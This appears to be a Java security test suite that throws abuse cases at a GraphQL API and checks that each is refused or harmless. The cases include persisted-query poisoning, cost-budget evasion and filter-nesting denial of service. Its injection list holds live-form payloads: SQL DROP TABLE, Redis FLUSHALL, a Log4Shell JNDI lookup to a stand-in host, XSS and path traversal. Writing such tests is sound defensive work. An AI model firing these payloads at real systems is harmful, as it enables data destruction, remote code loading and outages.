package io.millrace.ops.attack;

import static io.millrace.ops.attack.Request.get;
import static io.millrace.ops.attack.Request.post;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.IOException;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Persisted operations, budgets, filters and arguments, used for what they are not there for. */
final class OperationAttacks {

  private static final String NAME = "{ __typename }";

  /** Texts that mean something to one of the stores, or to those who print them. */
  private static final List<String> INJECTIONS =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE product; --",
          "\\'; --",
          "$1",
          ":ids",
          "%' ESCAPE '!",
          "{\"match_all\":{}}",
          "*:* AND _exists_:name",
          "/.*.*.*.*.*.*.*/",
          "((((((((((",
          "name:\"",
          "\r\nFLUSHALL\r\n",
          "*1\r\n$7\r\nFLUSHDB\r\n",
          "return redis.call('KEYS','*')",
          "${jndi:ldap://evil.example/a}",
          "#{7*7}",
          "{{7*7}}",
          "<script>alert(1)</script>",
          "../../../../etc/passwd",
          "%00",
          "\u0000",
          "\ud800",
          "\u202e\ufeff\u200b",
          "\uffff\ufffe",
          "a\u0300".repeat(200),
          "*".repeat(500),
          "~2 ".repeat(200),
          "x".repeat(5_000));

  private OperationAttacks() {}

  static List<Attack> all() {
    return List.of(
        new Attack("a flood of documents to remember", OperationAttacks::flood),
        new Attack("another document under a known hash", OperationAttacks::poison),
        new Attack(
            "hashes that are none",
            (attacker, target) -> {
              for (Object persisted :
                  List.of(
                      7,
                      "x",
                      List.of(),
                      Map.of(),
                      Map.of("version", 1),
                      Map.of("version", 2, "sha256Hash", "0".repeat(64)),
                      Map.of("version", 1, "sha256Hash", 7),
                      Map.of("version", 1, "sha256Hash", "../../x"),
                      Map.of("version", 1, "sha256Hash", "A".repeat(64)),
                      Map.of("version", 1, "sha256Hash", "a".repeat(10_000)))) {
                attacker.refused(
                    post(target.api(), Map.of("extensions", Map.of("persistedQuery", persisted))));
              }
            }),
        new Attack(
            "guessing published documents",
            (attacker, target) -> {
              for (int at = 0; at < 200; at++) {
                attacker.refused(post(target.api(), Map.of("documentId", "id-" + at)));
              }
              attacker.refused(get(target.api(), Map.of("documentId", "x".repeat(5_000))));
            }),
        new Attack("leaving before the answer to get the charge back", OperationAttacks::leave),
        new Attack("alternatives of alternatives in a filter", OperationAttacks::clauses),
        new Attack("orders without end", OperationAttacks::orders),
        new Attack("a text that is a book", OperationAttacks::book),
        new Attack("patterns that never end", OperationAttacks::patterns),
        new Attack(
            "injections into every argument of every query", OperationAttacks::injectQueries),
        new Attack(
            "injections into every input of every mutation", OperationAttacks::injectMutations),
        new Attack(
            "an operation that is not in the document",
            (attacker, target) -> {
              for (var name : List.of("", "B", "__proto__", "x".repeat(10_000), "'; --")) {
                attacker.harmless(
                    post(
                        target.api(),
                        Map.of("query", "query A { __typename }", "operationName", name)));
              }
            }),
        new Attack(
            "versions that nobody has released",
            (attacker, target) -> {
              for (var version :
                  List.of("1999-01", "x", "2026-11, 2026-12", "' --", "9".repeat(3_000))) {
                attacker.harmless(post(target.api(), NAME).with("API-Version", version));
              }
              attacker.refused(post(target.api(), NAME).to("/1999-01" + target.api().getPath()));
            }),
        new Attack(
            "reports of costs that nobody offers",
            (attacker, target) -> {
              for (var mode : List.of("x", "report, validate", "VALIDATE", "", "{}")) {
                attacker.harmless(post(target.api(), NAME).with("GraphQL-Cost", mode));
              }
            }));
  }

  private static void flood(Attacker attacker, Target target) throws IOException {
    for (int at = 0; at < 500; at++) {
      var document = "query Flood%d { __typename }".formatted(at);
      attacker.harmless(
          post(
              target.api(),
              Map.of(
                  "query",
                  document,
                  "extensions",
                  Map.of("persistedQuery", Map.of("version", 1, "sha256Hash", sha256(document))))));
    }
  }

  private static void poison(Attacker attacker, Target target) throws IOException {
    var victim = "query Victim%d { __typename }".formatted(System.nanoTime());
    var named = Map.of("persistedQuery", Map.of("version", 1, "sha256Hash", sha256(victim)));
    attacker.refused(
        post(
            target.api(), Map.of("query", "query Evil { evil: __typename }", "extensions", named)));
    var asked = post(target.api(), Map.of("extensions", named));
    var answer = attacker.harmless(asked);
    attacker.require(!answer.body().contains("evil"), "gives the poison to others", asked, answer);
  }

  private static void leave(Attacker attacker, Target target) throws IOException {
    var dear =
        post(
            target.api(),
            "{ %s(first: 50) { nodes { __typename } totalCount } }"
                .formatted(target.search().getName()));
    for (int at = 0; at < 300; at++) {
      attacker.leave(dear, 700);
    }
    var report = post(target.api(), NAME).with("GraphQL-Cost", "report");
    var answer = attacker.harmless(report, 700);
    answer
        .json()
        .map(json -> json.at("/extensions/cost/throttleStatus"))
        .filter(status -> status.isObject())
        .ifPresent(
            status -> {
              double most = status.path("maximumAvailable").asDouble();
              double left = status.path("currentlyAvailable").asDouble();
              double restored = status.path("restoreRate").asDouble();
              // With more restored in a moment than all of it costs, nothing can be said.
              attacker.require(
                  restored > most / 10 || left < most, "costs nothing", report, answer);
            });
  }

  private static void clauses(Attacker attacker, Target target) throws IOException {
    var search = target.search().getName();
    var deep = "{not: ".repeat(300) + "{}" + "}".repeat(300);
    attacker.refused(
        post(
            target.api(),
            "{ %s(first: 1, filter: %s) { nodes { __typename } } }".formatted(search, deep)));
    var many =
        IntStream.range(0, 3_000).mapToObj(_ -> "{not: {}}").collect(Collectors.joining(","));
    attacker.refused(
        post(
            target.api(),
            "{ %s(first: 1, filter: {or: [%s]}) { nodes { __typename } } }"
                .formatted(search, many)));
    var exponential = new StringBuilder("{}");
    for (int level = 0; level < 12; level++) {
      exponential = new StringBuilder("{or: [" + exponential + "," + exponential + "]}");
    }
    attacker.refused(
        post(
            target.api(),
            "{ %s(first: 1, filter: %s) { nodes { __typename } } }"
                .formatted(search, exponential)));
  }

  private static void orders(Attacker attacker, Target target) throws IOException {
    var order = target.order();
    if (order.isPresent()) {
      var many = ("{field: " + order.get() + "}, ").repeat(2_000);
      attacker.refused(
          post(
              target.api(),
              "{ %s(first: 1, orderBy: [%s]) { nodes { __typename } } }"
                  .formatted(target.search().getName(), many)));
    }
  }

  private static void book(Attacker attacker, Target target) throws IOException {
    for (var argument : List.of("query", "typeAhead")) {
      if (target.search().getArgument(argument) != null) {
        attacker.refused(
            post(
                target.api(),
                "query ($t: String) { %s(first: 1, %s: $t) { nodes { __typename } } }"
                    .formatted(target.search().getName(), argument),
                Map.of("t", "word ".repeat(30_000))));
      }
    }
  }

  private static void patterns(Attacker attacker, Target target) throws IOException {
    for (var text :
        List.of(
            "*",
            "?*?*?*?*?*",
            "a~2 b~2 c~2",
            "[* TO *]",
            "(a+)+$",
            "\"",
            "\\",
            "-",
            "AND OR NOT")) {
      for (var argument : List.of("query", "typeAhead")) {
        if (target.search().getArgument(argument) != null) {
          attacker.harmless(
              post(
                  target.api(),
                  "query ($t: String) { %s(first: 1, %s: $t) { nodes { __typename } } }"
                      .formatted(target.search().getName(), argument),
                  Map.of("t", text)));
        }
      }
    }
  }

  private static void injectQueries(Attacker attacker, Target target) throws IOException {
    for (var text : INJECTIONS) {
      for (var field : target.queries()) {
        var query = post(target.api(), "{ " + target.operations().field(field, 1, text) + " }");
        for (var request : target.asEverybody(query)) {
          attacker.harmless(request);
        }
      }
    }
  }

  private static void injectMutations(Attacker attacker, Target target) throws IOException {
    for (var text : INJECTIONS) {
      for (var field : target.mutations()) {
        var mutation =
            post(target.api(), "mutation { " + target.operations().field(field, 1, text) + " }");
        for (var request : target.asEverybody(mutation)) {
          attacker.harmless(request);
          attacker.harmless(
              request.with("Idempotency-Key", text.strip().replaceAll("\\p{Cntrl}", "")));
        }
      }
    }
  }

  static String sha256(String text) {
    try {
      return HexFormat.of()
          .formatHex(MessageDigest.getInstance("SHA-256").digest(text.getBytes(UTF_8)));
    } catch (NoSuchAlgorithmException impossible) {
      throw new IllegalStateException("Every Java platform has SHA-256", impossible);
    }
  }
}
